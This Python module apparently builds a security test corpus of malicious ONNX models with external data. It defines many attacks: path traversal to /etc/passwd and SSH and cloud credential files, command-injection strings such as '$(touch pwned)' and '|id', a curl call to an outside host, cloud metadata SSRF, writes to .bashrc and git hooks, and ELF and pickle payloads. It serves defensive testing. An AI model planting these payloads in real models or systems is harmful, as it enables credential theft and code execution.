"""External data: dangerous paths and links, wrong ranges, checksums and keys, and files with hostile content."""
# fmt: off

from __future__ import annotations

import hashlib
import struct

from .case import Fifo, Hardlink, Sparse, Symlink, declare
from .payload_bytes import ELF, PICKLE
from .writer import (
    BOOL,
    DOUBLE,
    EXTERNAL,
    FLOAT,
    INT8,
    INT64,
    Tensor,
    X,
    Y,
    attribute,
    external,
    external_pairs,
    function,
    graph,
    integer,
    model,
    model_with_extras,
    model_with_weight,
    network,
    node,
    record,
    scalar,
    tensor,
    value,
    values,
)

AFFECTED = "onnx, onnxruntime, OpenVINO, converters"
WEIGHTS = struct.pack("<4f", 1, 2, 3, 4)
OUTSIDE = "../outside.bin"


def model_with_location(location, **keys):
    """Return a model whose weight is external data at a location. keys: the other entries of external_data."""
    return model_with_weight(external_pairs("w", [("location", location), *keys.items()]))


def add_path_attacks(attack, rows, **options):
    """Add an attack for each (name, description, location)."""
    for name, description, location in rows:
        attack(name, description, model_with_location(location), **options)


attack = declare("path-absolute", "files", "External data has an absolute path.", "CWE-36", AFFECTED)
add_path_attacks(attack, [("passwd", "The location is /etc/passwd.", "/etc/passwd"), ("environ",
    "The location is /proc/self/environ: secrets in environment variables.", "/proc/self/environ"), ("memory",
    "The location is /proc/self/mem.", "/proc/self/mem"), ("ssh-key", "The location is /root/.ssh/id_rsa.",
    "/root/.ssh/id_rsa"), ("double-slash", "The location is //etc/passwd, which some sanitizers reduce to one slash.",
    "//etc/passwd"), ("slash-dot", "The location is /./etc/passwd.", "/./etc/passwd"), ("leading-space",
    "The location is ' /etc/passwd' with a space that some readers strip.", " /etc/passwd"), ("file-url",
    "The location is the URL file:///etc/passwd.", "file:///etc/passwd")], cve="CVE-2022-25882")
attack = declare("path-traversal", "files", "External data leaves the model's folder by '..'.", "CWE-22", AFFECTED)
add_path_attacks(attack, [("parent", "The location is ../outside.bin.", OUTSIDE), ("many-parents",
    "The location is ../../../../../../etc/passwd.", "../../../../../../etc/passwd")], cve="CVE-2022-25882")
add_path_attacks(attack, [("through-folder",
    "The location is folder/../../outside.bin: a check of the first component passes.", "folder/../../outside.bin"), (
    "dot-parent", "The location is ./../outside.bin.", "./../outside.bin"), ("double-slash",
    "The location is .//..//outside.bin.", ".//..//outside.bin"), ("long-way",
    "The location goes down and up 50 times.", "a/../" * 50 + OUTSIDE)], cve="CVE-2024-27318")
add_path_attacks(attack, [("backslash", "The location is ..\\outside.bin: up on Windows, a file name on POSIX.",
    "..\\outside.bin"), ("mixed-slashes", "The location is folder\\..\\../outside.bin.",
    "folder\\..\\../outside.bin"), ("four-dots",
    "The location is ....//outside.bin: removing '../' once leaves '../'.", "....//outside.bin"), ("dots-with-space",
    "The location is '.. /outside.bin': Windows strips the space.", ".. /outside.bin"), ("three-dots",
    "The location is .../outside.bin.", ".../outside.bin"), ("trailing-parent",
    "The location is 'folder/..', the model's folder.", "folder/.."), ("fullwidth-dots",
    "The location has full-width dots and slash, which NFKC turns into '../'.", "\uff0e\uff0e\uff0foutside.bin"),
    ("two-dot-leader", "The location has a two dot leader, which NFKC turns into '..'.", "\u2025/outside.bin"),
    ("parent-only", "The location is '..'.", "..")])
attack("write-target", "Saving with external data would write to ../outside.bin.", model_with_location(OUTSIDE,
    offset=0, length=16), cve="CVE-2025-51480")
attack("with-checksum", "The location is ../outside.bin, with offset, length and a checksum as benign models have.",
    model_with_location(OUTSIDE, offset=4096, length=16, checksum="0" * 40), cve="CVE-2024-27318")

attack = declare("path-expansion", "files",
    "A location has another meaning after an expansion that some readers perform.", "CWE-73", AFFECTED)
add_path_attacks(attack, [("percent-dots", "%2e%2e/outside.bin", "%2e%2e/outside.bin"), ("percent-slash",
    "..%2foutside.bin", "..%2foutside.bin"), ("percent-twice", "%252e%252e%252foutside.bin, decoded twice.",
    "%252e%252e%252foutside.bin"), ("percent-absolute", "%2Fetc%2Fpasswd", "%2Fetc%2Fpasswd"), ("percent-nul",
    "weights.bin%00.txt", "weights.bin%00.txt"), ("home", "~/.ssh/id_rsa", "~/.ssh/id_rsa"), ("user-home",
    "~root/.bashrc", "~root/.bashrc"), ("dollar", "$HOME/.aws/credentials", "$HOME/.aws/credentials"), ("braces",
    "${HOME}/.netrc", "${HOME}/.netrc"), ("windows-variable", "%APPDATA%\\secrets.txt", "%APPDATA%\\secrets.txt"),
    ("command", "$(touch pwned).bin", "$(touch pwned).bin"), ("pipe-command", "|id, which old open functions run",
    "|id"), ("glob", "*.bin", "*.bin")])
attack = declare("path-network", "files",
    "A location is a network address: a reader may send requests or credentials.", "CWE-918", AFFECTED)
add_path_attacks(attack, [("unc", "\\\\192.0.2.1\\share\\w.bin: Windows sends a hash of the user's password.",
    "\\\\192.0.2.1\\share\\w.bin"), ("unc-slashes", "//192.0.2.1/share/w.bin", "//192.0.2.1/share/w.bin"), (
    "unc-webdav", "\\\\192.0.2.1@80\\share\\w.bin", "\\\\192.0.2.1@80\\share\\w.bin"), ("https",
    "https://192.0.2.1/w.bin", "https://192.0.2.1/w.bin"), ("metadata-service",
    "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/"), ("s3", "s3://bucket/w.bin",
    "s3://bucket/w.bin"), ("file-host", "file://192.0.2.1/share/w.bin", "file://192.0.2.1/share/w.bin"), ("data-url",
    "A data URL that contains four floats.", "data:application/octet-stream;base64,AACAPwAAgD8AAIA/AACAPw=="),
    ("hub", "hf://someone/model/w.bin", "hf://someone/model/w.bin"), ("smb-url", "smb://192.0.2.1/share/w.bin",
    "smb://192.0.2.1/share/w.bin"), ("jar-url", "jar:http://192.0.2.1/x.jar!/w.bin",
    "jar:http://192.0.2.1/x.jar!/w.bin")])
attack = declare("path-windows", "files",
    "A location means something else on Windows: drives, devices, streams, stripped characters.", "CWE-67", AFFECTED)
add_path_attacks(attack, [("drive-absolute", "C:\\Windows\\win.ini", "C:\\Windows\\win.ini"), ("drive-slashes",
    "C:/Windows/win.ini", "C:/Windows/win.ini"), ("drive-relative",
    "C:w.bin, relative to the current folder of drive C", "C:w.bin"), ("root-relative",
    "\\Windows\\win.ini, relative to the current drive", "\\Windows\\win.ini"), ("device-path",
    "\\\\.\\PhysicalDrive0", "\\\\.\\PhysicalDrive0"), ("verbatim-path", "\\\\?\\C:\\Windows\\win.ini",
    "\\\\?\\C:\\Windows\\win.ini"), ("named-pipe", "\\\\.\\pipe\\service", "\\\\.\\pipe\\service"), ("stream",
    "weights.bin:hidden", "weights.bin:hidden"), ("stream-data", "weights.bin::$DATA", "weights.bin::$DATA"), ("con",
    "CON", "CON"), ("nul-with-extension", "nul.bin", "nul.bin"), ("com-port", "folder/COM1", "folder/COM1"),
    ("trailing-dot", "weights.bin. (Windows strips the dot)", "weights.bin."), ("trailing-space",
    "'weights.bin ' (Windows strips the space)", "weights.bin "), ("short-name", "PROGRA~1\\w.bin",
    "PROGRA~1\\w.bin")])
attack = declare("path-device", "files",
    "A location is a device, a pipe or a folder: reading it blocks or does not end.", "CWE-66", AFFECTED)
add_path_attacks(attack, [("zero", "/dev/zero never ends.", "/dev/zero"), ("random", "/dev/random", "/dev/random"), (
    "stdin", "/dev/stdin blocks.", "/dev/stdin"), ("tty", "/dev/tty", "/dev/tty"), ("file-descriptor",
    "/proc/self/fd/0", "/proc/self/fd/0"), ("folder", "The location is '.', the model's folder.", "."), ("empty",
    "The location is empty.", ""), ("slash", "The location is 'folder/'.", "folder/")],
    files={"folder/present.bin": WEIGHTS})
attack("named-pipe", "The location is a named pipe in the folder: opening it blocks for ever.", model_with_location(
    "pipe.bin"), files={"pipe.bin": Fifo()})

attack = declare("path-characters", "files",
    "A location has NUL, control or invisible characters, or is very long: checks and the system see different names.",
    "CWE-158", AFFECTED)
add_path_attacks(attack, [("nul-suffix", "'nul.bin' NUL '.txt': C functions stop at the NUL.", "nul.bin\0.txt"), (
    "nul-parent", "'../outside.bin' NUL 'x/../../w.bin'.", "../outside.bin\0x/../../w.bin"), ("newline",
    "A newline in the location forges log lines.", "w.bin\nINFO: checksum ok"), ("escape",
    "A terminal escape sequence in the location.", "\x1b]0;pwned\x07w.bin"), ("bidi",
    "A right-to-left override: the name looks like weightsexe.bin.", "weights\u202enib.exe"), ("zero-width",
    "A zero-width space in the location.", "nul\u200b.bin"), ("long", "A location of 70,000 characters.",
    "a" * 70000), ("deep", "A location of 5,000 folders.", "a/" * 5000 + "w.bin"), ("tab",
    "A tab before the location.", "\tnul.bin")], files={"nul.bin": WEIGHTS})

attack = declare("link", "files",
    "The location is inside of the model's folder, but the file or a folder of its path is a link, usually to a target "
    "outside of the folder.", "CWE-59", "onnx before 1.21, onnxruntime, OpenVINO, converters")
attack("symlink", "A symbolic link to ../outside.bin.", model_with_location("link.bin"), cve="CVE-2026-27489",
    files={"link.bin": Symlink(OUTSIDE)})
attack("symlink-absolute", "A symbolic link to /etc/passwd.", model_with_location("passwd.bin"), cve="CVE-2026-27489",
    files={"passwd.bin": Symlink("/etc/passwd")})
attack("symlink-folder", "The folder of the file is a symbolic link to '..'.", model_with_location("up/outside.bin"),
    cve="CVE-2026-27489", files={"up": Symlink("..")})
attack("symlink-chain", "A chain of three links to ../outside.bin.", model_with_location("chain1.bin"),
    files={"chain1.bin": Symlink("chain2.bin"), "chain2.bin": Symlink("chain3.bin"), "chain3.bin": Symlink(OUTSIDE)})
attack("symlink-loop", "A link to itself.", model_with_location("loop.bin"), files={"loop.bin": Symlink("loop.bin")})
attack("symlink-dangling", "A link to a file that does not exist yet: saving would create it.",
    model_with_location("dangling.bin"), files={"dangling.bin": Symlink("../created.bin")}, cve="CVE-2025-51480")
attack("symlink-device", "A link to /dev/zero.", model_with_location("zero.bin"), files={"zero.bin": Symlink(
    "/dev/zero")})
attack("hardlink", "A hard link to ../outside.bin: no check of paths detects it.", model_with_location("hard.bin"),
    cve="CVE-2026-34446", files={"hard.bin": Hardlink(OUTSIDE)}, affects="onnx before 1.21, onnxruntime, OpenVINO")
attack("proc-link", "The folder of the file is a symbolic link to /proc/self/cwd.",
    model_with_location("cwd/outside.bin"), files={"cwd": Symlink("/proc/self/cwd")})

# Ranges

attack = declare("range-beyond-file", "files",
    "Offset or length lead outside of the file, or the file is missing, empty or huge.", "CWE-125", AFFECTED)
RANGE_FILES = {"range.bin": bytes(64)}


def range_attack(name, description, dims=(4,), data_type=FLOAT, cwe="CWE-125", **keys):
    """Add an attack with external data. keys: the entries besides the location."""
    attack(name, description, model_with_weight(external_pairs("w", [("location", "range.bin"), *keys.items()], dims,
        data_type)), files=RANGE_FILES, cwe=cwe)


range_attack("offset", "The offset is 2^20 in a file of 64 bytes.", offset=1 << 20, length=16)
range_attack("offset-last", "Offset 60 and length 16 in a file of 64 bytes.", offset=60, length=16)
range_attack("length", "The length is 2^40.", offset=0, length=1 << 40)
range_attack("dims", "No length is given; the shape needs 4 GiB of a file of 64 bytes.", dims=(1 << 30,))
range_attack("sum-overflow", "Offset 2^63 - 16 and length 32: the sum overflows.", offset=(1 << 63) - 16, length=32,
    cwe="CWE-190")
range_attack("sum-overflow-unsigned", "Offset 2^64 - 16 and length 32.", offset=(1 << 64) - 16, length=32,
    cwe="CWE-190")
range_attack("offset-negative", "The offset is -16.", offset=-16, length=16)
range_attack("length-negative", "The length is -1.", offset=0, length=-1)
range_attack("offset-huge", "The offset has 400 digits.", offset="9" * 400, length=16)
range_attack("empty-beyond-end", "Offset 2^50 and length 0 for a tensor without elements.", dims=(0,), offset=1 << 50,
    length=0)
attack("missing-file", "The file does not exist.", model_with_location("nosuch.bin"))
attack("file-too-short", "The file is empty.", model_with_location("void.bin"), files={"void.bin": b""})
attack("sparse-file", "The file is 1 TiB of zeros that take no disk space; the tensor is as large.",
    model_with_extras([external("o", [1 << 38], location="tera.bin")]), files={"tera.bin": Sparse(1 << 40)},
    cwe="CWE-400")

attack = declare("range-not-number", "files",
    "Offset or length is no plain decimal number: readers parse it differently.", "CWE-1286", AFFECTED)
NUMBER_FILES = {"number.bin": bytes(range(64))}


def number_attack(name, description, offset, length="16"):
    """Add an attack whose external data has the texts `offset` and `length` as its range."""
    attack(name, description, model_with_weight(external_pairs("w", [("location", "number.bin"), ("offset", offset), (
        "length", length)])), files=NUMBER_FILES)


number_attack("hexadecimal", "The offset is 0x10: 16 or 0.", "0x10")
number_attack("octal", "The offset is 010: 10 or 8.", "010")
number_attack("exponent", "The offset is 1e1.", "1e1")
number_attack("plus", "The offset is +16.", "+16")
number_attack("space", "The offset is ' 16 '.", " 16 ")
number_attack("underscore", "The offset is 1_6: 16 in Python, 1 in C.", "1_6")
number_attack("arabic-digits", "The offset is 16 in Arabic digits: Python accepts them.", "\u0661\u0666")
number_attack("suffix", "The offset is '16; rm': C functions stop at the semicolon.", "16; rm")
number_attack("empty", "The offset is empty.", "")
number_attack("fraction", "The offset is 16.0.", "16.0")
number_attack("length-nan", "The length is 'nan'.", "0", "nan")
number_attack("length-suffix", "The length is 16K.", "0", "16K")

attack = declare("length-mismatch", "files", "The length or offset of external data does not fit the tensor.",
    "CWE-131", AFFECTED)
MISMATCH_FILES = {"mismatch.bin": bytes(4096)}


def length_attack(name, description, dims=(4,), data_type=FLOAT, **keys):
    """Add an attack whose external data does not fit the tensor. keys: the entries besides the location."""
    attack(name, description, model_with_weight(external_pairs("w", [("location", "mismatch.bin"), *keys.items()], dims,
        data_type)), files=MISMATCH_FILES)


length_attack("shorter", "Four floats with a length of 4 bytes.", length=4)
length_attack("longer", "Four floats with a length of 4,096 bytes, of which a reader uses 16.", length=4096)
length_attack("zero", "Four floats with a length of 0.", length=0)
length_attack("int8", "Four doubles with the length of four int8 elements.", data_type=DOUBLE, length=4)
length_attack("unaligned", "An offset of 3: an array over the mapped file is misaligned.", offset=3, length=16)
length_attack("scalar", "A scalar with a length of 64.", dims=(), length=64)

attack = declare("range-overlap", "files",
    "Ranges of tensors overlap: writing one changes another, or content is counted twice.", "CWE-1260", AFFECTED)


def overlap_attack(name, description, first, second, size=64):
    """Add an attack with two tensors in one file. first, second: their offsets and lengths in bytes."""
    file = f"{name}.bin"
    extra = external_pairs("v", [("location", file), ("offset", second[0]), ("length", second[1])], (second[1] // 4,))
    weight = external_pairs("w", [("location", file), ("offset", first[0]), ("length", first[1])], (first[1] // 4,))
    body = graph([node("Add", ["x", "w"], ["y"]), node("Neg", ["v"], ["z"])], [X], [value("y", FLOAT, [None]),
        value("z", FLOAT, [None])], [weight, extra])
    attack(name, description, model(body), files={file: bytes(size)})


overlap_attack("partial", "The second tensor begins within the first.", (0, 16), (8, 16))
overlap_attack("one-byte", "The second tensor begins one byte before the end of the first.", (0, 16), (15, 16))
overlap_attack("inside", "The second tensor is inside of the first.", (0, 64), (16, 16))
overlap_attack("same-start", "Both tensors begin at 0 with different lengths.", (0, 16), (0, 32))
attack("many", "200 tensors share 4 KiB; each begins 4 bytes after the one before.",
    model_with_extras([external(f"t{i}", [800], location="many.bin", offset=4 * i, length=3200) for i in range(200)]),
    files={"many.bin": bytes(4096)})
attack("quadratic", "300 tensors of 1 MiB each in a file of 1 MiB: all tensors together take 300 MiB of memory.",
    model_with_extras([external(f"t{i}", [1 << 18], location="mega.bin", offset=0, length=1 << 20) for i in range(
    300)]), files={"mega.bin": Sparse(1 << 20)}, cwe="CWE-409")

attack = declare("own-file", "files", "The file of external data is the model itself or another model.", "CWE-610",
    AFFECTED)
attack("model", "The location is the model file.", model_with_location("model.onnx"), files={})
attack("model-with-range", "The location is the model file, the range its first 16 bytes.",
    model_with_location("model-with-range.onnx", offset=0, length=16))
attack("model-dot-slash", "The location is ./model-dot-slash.onnx.", model_with_location("./model-dot-slash.onnx"))
attack("other-model", "The location is another model of the folder.", model_with_location("model.onnx", offset=8,
    length=16))
attack("link-to-model", "The location is a link to the model file.", model_with_location("self.bin"),
    files={"self.bin": Symlink("link-to-model.onnx")})
attack("hardlink-to-model", "The location is a hard link to the model file.", model_with_location("self2.bin"),
    files={"self2.bin": Hardlink("hardlink-to-model.onnx")})
attack("upper-case", "The location is UPPER-CASE.ONNX: the model on file systems that ignore case.",
    model_with_location("UPPER-CASE.ONNX"))

attack = declare("shared-range", "files", "Unrelated tensors share the same bytes of a file.", "CWE-1260", AFFECTED)
SHARED_FILES = {"shared.bin": bytes(64)}


def shared_bytes_attack(name, description, first, second):
    """Add an attack with two tensors of the same bytes. first, second: their dims and data types."""
    tensors = [external_pairs("w", [("location", "shared.bin"), ("length", "16")], *first), external_pairs("v",
        [("location", "shared.bin"), ("length", "16")], *second)]
    attack(name, description, model(graph([node("Add", ["x", "w"], ["y"]), node("Identity", ["v"], ["z"])], [X],
        [value("y"), value("z", second[1])], tensors)), files=SHARED_FILES)


shared_bytes_attack("float-and-int64", "A float and an int64 tensor use the same bytes.", ((4,), FLOAT), ((2,), INT64))
shared_bytes_attack("float-and-bool", "A float and a bool tensor use the same bytes.", ((4,), FLOAT), ((16,), BOOL))
shared_bytes_attack("two-shapes", "Two float tensors of different shapes use the same bytes.", ((4,), FLOAT), ((2, 2),
    FLOAT))
shared_bytes_attack("float-and-int8", "Weights and a quantized tensor use the same bytes.", ((4,), FLOAT), ((16,),
    INT8))

# Checksums

attack = declare("checksum", "files",
    "The checksum of external data is wrong or is not a SHA-1 digest: the file may have been replaced.", "CWE-354",
    AFFECTED)


def checksum_attack(name, description, text):
    """Add an attack whose external data has this text as its checksum."""
    attack(name, description, model_with_weight(external("w", location="digest.bin", offset=0, length=16,
        checksum=text)), files={"digest.bin": WEIGHTS})


checksum_attack("wrong", "The checksum is the SHA-1 of other content.", hashlib.sha1(b"other").hexdigest())
checksum_attack("short", "The checksum has 8 digits.", hashlib.sha1(WEIGHTS).hexdigest()[:8])
checksum_attack("not-hexadecimal", "The checksum is 'trust me'.", "trust me")
checksum_attack("md5", "The checksum is an MD5.", hashlib.md5(WEIGHTS).hexdigest())
checksum_attack("zeros", "The checksum is forty zeros.", "0" * 40)
checksum_attack("empty", "The checksum is empty.", "")
checksum_attack("prefixed", "The checksum is prefixed with 'sha1:'.", "sha1:" + hashlib.sha1(WEIGHTS).hexdigest())

attack = declare("path-ambiguous", "files",
    "Two names denote one file or look alike, or other users can write to the file.",
    "CWE-367", AFFECTED)


def two_paths_attack(name, description, first, second, files):
    """Add an attack with two tensors. first, second: their locations."""
    tensors = [external("w", location=first, offset=0, length=16), external("v", location=second, offset=0, length=16)]
    attack(name, description, model(graph([node("Add", ["x", "w"], ["a"]), node("Add", ["a", "v"], ["y"])], [X], [Y],
        tensors)), files=files)


two_paths_attack("case", "Case.bin and case.bin are one file on Windows and macOS.", "Case.bin", "case.bin",
    {"Case.bin": WEIGHTS, "case.bin": WEIGHTS[::-1]})
two_paths_attack("normalization", "Two spellings of a file name with an accent, composed and decomposed.",
    "caf\u00e9.bin", "cafe\u0301.bin", {"caf\u00e9.bin": WEIGHTS, "cafe\u0301.bin": WEIGHTS[::-1]})
two_paths_attack("dot-segments", "amb.bin and ./folder/../amb.bin are one file.", "amb.bin", "./folder/../amb.bin",
    {"amb.bin": WEIGHTS, "folder/present.bin": WEIGHTS})
attack("tmp", "The location is /tmp/weights.bin, where every user can write.", model_with_location("/tmp/weights.bin"))
attack("shared-memory", "The location is /dev/shm/weights.bin.", model_with_location("/dev/shm/weights.bin"))
attack("look-alike", "The name weights.bin with a Cyrillic letter; a file weights.bin is beside it.",
    model_with_location("w\u0435ights.bin", length=16), files={"w\u0435ights.bin": WEIGHTS,
    "weights.bin": WEIGHTS[::-1]})

attack = declare("external-key", "files",
    "external_data has keys that set attributes of the reader's objects, or lacks necessary keys.", "CWE-915",
    "onnx before 1.21, onnxruntime")


def key_attack(name, description, *pairs, cve="CVE-2026-34445"):
    """Add an attack whose external data has additional entries."""
    attack(name, description, model_with_weight(external_pairs("w", [("location", "keys.bin"), *pairs])), cve=cve,
        files={"keys.bin": WEIGHTS})


key_attack("class", "A key is __class__.", ("__class__", "builtins.dict"))
key_attack("dict", "A key is __dict__.", ("__dict__", "{}"))
key_attack("basepath", "A key is basepath: onnx joins it with the location.", ("basepath", "/etc"))
key_attack("init", "A key is __init__.", ("__init__", "x"))
key_attack("huge-attribute", "A key sets length to 10^18, which some readers allocate at once.", ("length",
    "1" + "0" * 18))
key_attack("unknown", "A key is 'command', which no specification defines.", ("command", "curl http://192.0.2.1/"),
    cve=None)
key_attack("upper-case", "A key is Offset: readers that ignore case use it.", ("Offset", "8"), cve=None)
attack("no-location", "External data has no location.", model_with_weight(external_pairs("w", [("offset", 0), ("length",
    16)])))
attack("no-entries", "data_location is EXTERNAL and external_data is empty.", model_with_weight(tensor("w", [4],
    extra=integer(14, EXTERNAL))))

attack = declare("write-target", "files",
    "Loading and saving the model writes the attacker's bytes to a file that is run later.", "CWE-73",
    "onnx, converters that save external data")
for case_name, target in (
    ("bashrc", ".bashrc"),
    ("git-hook", ".git/hooks/post-checkout"),
    ("conftest", "conftest.py"),
    ("sitecustomize", "sitecustomize.py"),
    ("shared-library", "libonnxruntime_providers_shared.so"),
    ("dll", "version.dll"),
    ("desktop", "autostart.desktop"),
    ("pth", "evil.pth"),
):
    attack(case_name, f"The location is {target}; the tensor's bytes are in raw_data.",
        model_with_weight(external_pairs("w", [("location", target)], extra=record(9, b"#!x\nid;\nid;\nid;\n"))),
        cve="CVE-2025-51480")

attack = declare("memory-address", "files",
    "The location is a marker by which a runtime takes the offset as an address in its own memory.", "CWE-822",
    "onnxruntime, OpenVINO, onnx-mlir")
SOURCE = "https://github.com/microsoft/onnxruntime/pull/12465"
attack("onnxruntime", "*/_ORT_MEM_ADDR_/* with the offset 0x10000.", model_with_location("*/_ORT_MEM_ADDR_/*",
    offset=0x10000, length=16), source=SOURCE)
attack("null", "*/_ORT_MEM_ADDR_/* with the offset 0.", model_with_location("*/_ORT_MEM_ADDR_/*", offset=0, length=16),
    source=SOURCE)
attack("little-endian", "*/_ORT_LITTLE_ENDIAN_MEM_ADDR_/* with an address.",
    model_with_location("*/_ORT_LITTLE_ENDIAN_MEM_ADDR_/*", offset=0x400000, length=16))
attack("native-endian", "*/_ORT_NATIVE_ENDIAN_MEM_ADDR_/* with an address.",
    model_with_location("*/_ORT_NATIVE_ENDIAN_MEM_ADDR_/*", offset=0x400000, length=16))
attack("in-branch", "The marker is in a branch of an If.", network([node("If", ["t"], ["y"],
    then_branch=graph([node("Identity", ["m"], ["a"])], [], [value("a")], [external("m",
    location="*/_ORT_MEM_ADDR_/*", offset=0x10000, length=16)]), else_branch=graph([node("Identity", ["x"], ["b"])],
    [], [value("b")]))], [scalar("t", True, BOOL)]), source=SOURCE)
attack("in-constant", "The marker is in the tensor of a Constant.", network([node("Constant", [], ["c"],
    value=external(None, location="*/_ORT_MEM_ADDR_/*", offset=0x10000, length=16)), node("Add", ["x", "c"], ["y"])]),
    source=SOURCE)

attack = declare("path-hidden", "files",
    "A reference to a file outside of the folder is in a part of the model that checks omit.", "CWE-22", AFFECTED)
OUTSIDE_TENSOR = external(None, location=OUTSIDE)
OUTSIDE_INITIALIZER = external("e", location=OUTSIDE)
attack("constant", "In the tensor of a Constant.", network([node("Constant", [], ["c"], value=OUTSIDE_TENSOR), node(
    "Add", ["x", "c"], ["y"])]))
attack("tensors-attribute", "In the tensors of an attribute.", network([node("Custom", ["x"], ["y"], domain="custom",
    extra=record(5, record(1, "t") + record(10, OUTSIDE_TENSOR) + integer(20, 9)))], opsets=(("", 21), ("custom", 1))))
attack("branch", "In the initializer of a branch.", network([node("If", ["t"], ["y"],
    then_branch=graph([node("Identity", ["e"], ["a"])], [], [value("a")], [OUTSIDE_INITIALIZER]),
    else_branch=graph([node("Identity", ["x"], ["b"])], [], [value("b")]))], [scalar("t", True, BOOL)]))
attack("function", "In a Constant of a function.", network([node("F", ["x"], ["y"], domain="local")], opsets=(("",
    21), ("local", 1)), functions=[function("F", [node("Constant", [], ["c"], value=OUTSIDE_TENSOR), node("Add", ["a",
    "c"], ["b"])], ["a"], ["b"])]))
attack("sparse-values", "In the values of a sparse initializer.", model_with_extras(sparse=[record(1, external("sp", [
    1], location=OUTSIDE)) + record(2, values(None, [0], INT64)) + integer(3, 8)], nodes=[node("Neg", ["sp"], ["z"])]))
attack("sparse-indices", "In the indices of a sparse initializer.", model_with_extras(sparse=[record(1, values("sp",
    [1.0])) + record(2, external_pairs(None, [("location", OUTSIDE)], [1], INT64)) + integer(3, 8)],
    nodes=[node("Neg", ["sp"], ["z"])]))
attack("training", "In the initializer of a training algorithm.", model_with_extras(extra=record(20, record(2, graph([],
    [], [], [OUTSIDE_INITIALIZER])))))
attack("training-initialization", "In the initialization graph of training_info.", model_with_extras(extra=record(20,
    record(1, graph([node("Constant", [], ["c"], value=OUTSIDE_TENSOR)], [], [value("c")])))))
attack("unused", "In an initializer that no node uses.", model_with_extras([OUTSIDE_INITIALIZER]))
attack("reference-default", "In the default value of a function's attribute.", model_with_extras(functions=[function(
    "F", [node("Identity", ["a"], ["b"])], ["a"], ["b"], extra=record(11, attribute("t", Tensor(OUTSIDE_TENSOR))))]))
attack("after-many", "In an initializer after 2,000 others.", model_with_extras([values(f"i{n}",
    [1.0]) for n in range(2000)] + [OUTSIDE_INITIALIZER]))

attack = declare("external-payload", "files",
    "The accompanying file contains an executable or a pickle, as weights or beside the weights.", "CWE-506",
    "scanners, users of the folder")
attack("elf-as-weights", "The weights are an ELF program.", model_with_location("weights.elf.bin", length=16),
    files={"weights.elf.bin": ELF})
attack("pickle-as-weights", "The file of the weights is a pickle that calls os.system.", model_with_location(
    "pytorch_model.bin", length=16), files={"pytorch_model.bin": PICKLE})
attack("gap", "An ELF program is in the gap between two tensors.", model_with_extras([external("a", location="gap.bin",
    offset=0, length=16), external("b", location="gap.bin", offset=4096, length=16)]),
    files={"gap.bin": WEIGHTS + bytes(1008) + ELF + bytes(3072 - len(ELF)) + WEIGHTS})
attack("tail", "An ELF program follows the last tensor.", model_with_location("tail.bin", offset=0, length=16),
    files={"tail.bin": WEIGHTS + bytes(4080) + ELF})
attack("head", "An ELF program is before the first tensor.", model_with_location("head.bin", offset=4096, length=16),
    files={"head.bin": ELF + bytes(4096 - len(ELF)) + WEIGHTS})
attack("sparse-gap", "A sparse file of 4 GiB has an ELF program in its middle; tensors are at its ends.",
    model_with_extras([external("a", location="wide.bin", offset=0, length=16), external("b", location="wide.bin",
    offset=(1 << 32) - 16, length=16)]), files={"wide.bin": Sparse(1 << 32, ((0, WEIGHTS), (1 << 31, ELF),
    ((1 << 32) - 16, WEIGHTS)))})
